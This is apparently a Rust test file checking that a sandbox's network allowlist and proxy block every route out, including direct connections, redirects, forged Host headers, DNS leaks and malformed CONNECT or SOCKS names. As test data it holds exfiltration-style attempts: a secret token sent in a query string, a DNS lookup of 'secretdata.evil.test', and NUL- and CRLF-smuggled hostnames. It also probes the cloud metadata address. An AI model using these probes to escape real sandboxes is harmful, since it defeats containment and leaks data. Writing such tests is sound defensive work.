//! Who may be reached, by every way there is: cases NA-1 to NA-5 and NA-11, and their neighbours.

use super::lab::{Caller, Lab};
use super::{client, client_outside, codes, lines};

/// NA-1: an empty list allows nothing, and the user is told each name.
#[test]
fn an_empty_list_blocks_everything() {
    let lab = Lab::start();
    let script = "curl -fsS -m5 http://allowed.test/; echo a=$?; curl -fsS -m5 --noproxy '*' http://203.0.113.10/; echo b=$?; curl -sS -m5 -k https://denied.test/; echo c=$?";
    for &caller in lab.callers() {
        let desk = lab.desk(caller);
        let control = desk.control(&["sh", "-c", script]).output().success();
        for end in ["a=0", "b=0", "c=0"] {
            assert!(control.stdout.contains(end), "{control}");
        }
        lab.forget_hits();
        let out = desk.boxed(&[], &["sh", "-c", script]).output().success();
        for end in ["a=0", "b=0", "c=0"] {
            assert!(!out.stdout.contains(end), "{out}");
        }
        out.names_denied("allowed.test:80")
            .names_denied("denied.test:443");
        assert_eq!(lab.hits(), Vec::<String>::new());
    }
}

/// R44: with the network off the proxies answer and refuse, and the list does not count.
#[test]
fn network_off_refuses_listed_hosts_too() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let spec = format!(
        "network_enabled = false\n{}",
        desk.spec(&["allowed.test"], "")
    );
    let argv = [
        "curl",
        "-s",
        "-m5",
        "-w",
        "%{http_code}",
        "-o",
        "/dev/null",
        "http://allowed.test/",
    ];
    assert_eq!(desk.control(&argv).output().success().stdout, "200");
    lab.forget_hits();
    let out = desk.with_spec(&spec, &[], &argv).output().success();
    assert_eq!(out.stdout, "403", "{out}");
    out.names_denied("allowed.test:80");
    assert_eq!(lab.hits(), Vec::<String>::new());
}

/// NA-2: plain HTTP is filtered as strictly as CONNECT; queries are not repeated in messages.
#[test]
fn plain_http_is_filtered_like_connect() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let script = "curl -s -m5 http://allowed.test/ok; curl -s -m5 -o /dev/null -w '%{http_code}\\n' 'http://denied.test/log?token=SECRET'; curl -s -k -m5 -o /dev/null -w '%{http_connect}\\n' https://denied.test/; true";
    let control = desk.control(&["sh", "-c", script]).output().success();
    assert!(control.stdout.contains("\n200\n"), "{control}");
    assert_eq!(lab.hits_of("HTTP denied").len(), 2);
    lab.forget_hits();
    let out = desk
        .boxed(&["allowed.test"], &["sh", "-c", script])
        .output()
        .success();
    let got = lines(&out.stdout);
    assert!(got[0].starts_with("ORIGIN allowed"), "{out}");
    assert_eq!(got[1..], ["403", "403"], "{out}");
    assert!(
        !lab.hits().iter().any(|h| h.contains("denied")),
        "{:?}",
        lab.hits()
    );
    out.names_denied("denied.test:80")
        .names_denied("denied.test:443");
    assert!(!out.stderr.contains("SECRET"), "{out}");
}

/// NA-3: without the proxy there is no network, not a slower or an unfiltered one.
#[test]
fn going_around_the_proxy_reaches_nothing() {
    let lab = Lab::start();
    let targets = [
        "203.0.113.10:80",
        "203.0.113.11:80",
        "[2001:db8::10]:80",
        "127.0.0.1:9099",
        "198.18.0.1:9099",
        "169.254.169.254:80",
        "203.0.113.11:22",
        "10.77.0.5:80",
    ];
    let mut args = vec!["direct"];
    args.extend(targets);
    for &caller in lab.callers() {
        let desk = lab.desk(caller);
        let control = client_outside(&desk, &args).output().success();
        assert_eq!(
            control.stdout.matches(" open ").count(),
            targets.len(),
            "{control}"
        );
        lab.forget_hits();
        let out = client(&desk, &["allowed.test"], &args).output().success();
        assert!(!out.stdout.contains(" open "), "{out}");
        assert!(!out.stdout.contains("SLOW"), "{out}");
        let script = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY all_proxy; for u in http://denied.test/ http://203.0.113.10/; do curl -s -m5 $u && echo REACHED; done; true";
        assert_eq!(
            desk.boxed(&["allowed.test"], &["bash", "-c", script])
                .output()
                .success()
                .stdout,
            ""
        );
        assert_eq!(lab.hits(), Vec::<String>::new());
    }
}

/// NA-4: a NUL does not end a name for one reader and not for the other; the message escapes it.
#[test]
fn nul_in_a_socks_name_is_refused() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let out = client(
        &desk,
        &["*.allowed.test", "allowed.test"],
        &[
            "socks",
            "allowed.test",
            "80",
            "denied.test\\0.allowed.test",
            "80",
            "a\\r\\n.allowed.test",
            "80",
            "",
            "80",
        ],
    );
    let out = out.output().success();
    let got = lines(&out.stdout);
    assert_eq!(got[0], "allowed.test 80 0", "{out}");
    for line in &got[1..] {
        assert!(!line.ends_with(" 0"), "{out}");
    }
    assert!(!out.stderr.contains('\0'), "{out}");
    assert!(
        !lab.hits()
            .iter()
            .any(|h| h.contains("denied") || h.starts_with("DNS"))
    );
}

/// NA-5: malformed authorities get an answer, quickly, and break nothing.
#[test]
fn malformed_connect_authorities_are_refused() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let long = format!("{}.allowed.test:443", "a".repeat(300));
    let bad = [
        "denied.test\\0.allowed.test:443",
        "denied.test%00.allowed.test:443",
        "denied.test .allowed.test:443",
        "denied.test\\t.allowed.test:443",
        "denied.test\\r.allowed.test:443",
        "allowed.test",
        "allowed.test:",
        "allowed.test:0",
        "allowed.test:65536",
        "allowed.test:+443",
        "allowed.test:443:80",
        "",
        ":443",
        "user@allowed.test:443",
        "http://allowed.test:443",
        "/allowed.test:443",
        "allowed..test:443",
        ".allowed.test:443",
        "[allowed.test]:443",
        "2001:db8::10:443",
        "[::1:443",
        long.as_str(),
    ];
    let mut args = vec!["connect"];
    args.extend(bad);
    args.push("allowed.test:443");
    let out = client(&desk, &["*.allowed.test", "allowed.test"], &args)
        .output()
        .success();
    let got = lines(&out.stdout);
    assert_eq!(got.len(), bad.len() + 1, "{out}");
    let (last, refused) = got.split_last().unwrap();
    assert!(last.contains(" 200"), "a good request still works: {out}");
    for line in refused {
        assert!(
            line.contains("HTTP/1.1 4") || line.contains("closed"),
            "{line}\n{out}"
        );
    }
    assert!(
        !lab.hits()
            .iter()
            .any(|h| h.contains("denied") || h.starts_with("DNS")),
        "{:?}",
        lab.hits()
    );
}

/// NA-11: neither the child's own queries nor the names of refused hosts reach the name server.
#[test]
fn names_do_not_leak_to_the_name_server() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let script = "import socket
try: socket.getaddrinfo('secretdata.evil.test', 80)
except OSError: print('lookup failed')
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for a in ('203.0.113.53', '127.0.0.1'):
    try: s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04leak\\x04test\\x00\\x00\\x01\\x00\\x01', (a, 53))
    except OSError: pass
";
    desk.control(&["/usr/bin/python3", "-c", script])
        .output()
        .success();
    assert!(
        lab.hits_of("DNS").len() >= 2,
        "the control leaks: {:?}",
        lab.hits()
    );
    lab.forget_hits();
    let out = desk
        .boxed(
            &["allowed.test", "dns.test"],
            &["/usr/bin/python3", "-c", script],
        )
        .output()
        .success();
    assert!(out.stdout.contains("lookup failed"), "{out}");
    let out = desk
        .boxed(
            &["allowed.test", "dns.test"],
            &codes(&["leak2.evil.test", "dns.test"]),
        )
        .output()
        .success();
    assert_eq!(
        lines(&out.stdout),
        ["leak2.evil.test 403", "dns.test 200"],
        "{out}"
    );
    assert!(
        lab.hits_of("DNS").iter().all(|h| h.contains(" dns.test ")),
        "{:?}",
        lab.hits()
    );
}

/// A redirect is a new request: its target is judged like every other.
#[test]
fn a_redirect_does_not_lead_out() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let argv = [
        "curl",
        "-s",
        "-L",
        "-m5",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "http://allowed.test/redir",
    ];
    assert_eq!(desk.control(&argv).output().success().stdout, "200");
    lab.forget_hits();
    let out = desk.boxed(&["allowed.test"], &argv).output().success();
    assert_eq!(out.stdout, "403", "{out}");
    assert!(
        !lab.hits().iter().any(|h| h.contains("denied")),
        "{:?}",
        lab.hits()
    );
}

/// The Host header follows the judged authority, so a listed address cannot be asked for an unlisted site.
#[test]
fn the_host_header_is_overwritten() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let argv = [
        "curl",
        "-s",
        "-m5",
        "-H",
        "Host: denied.test",
        "http://allowed.test/",
    ];
    assert!(
        desk.control(&argv)
            .output()
            .success()
            .stdout
            .contains("host=denied.test")
    );
    let out = desk.boxed(&["allowed.test"], &argv).output();
    assert!(!out.stdout.contains("host=denied.test"), "{out}");
    assert!(
        !lab.hits_of("HTTP")
            .iter()
            .skip(1)
            .any(|h| h.contains("denied")),
        "{:?}",
        lab.hits()
    );
}
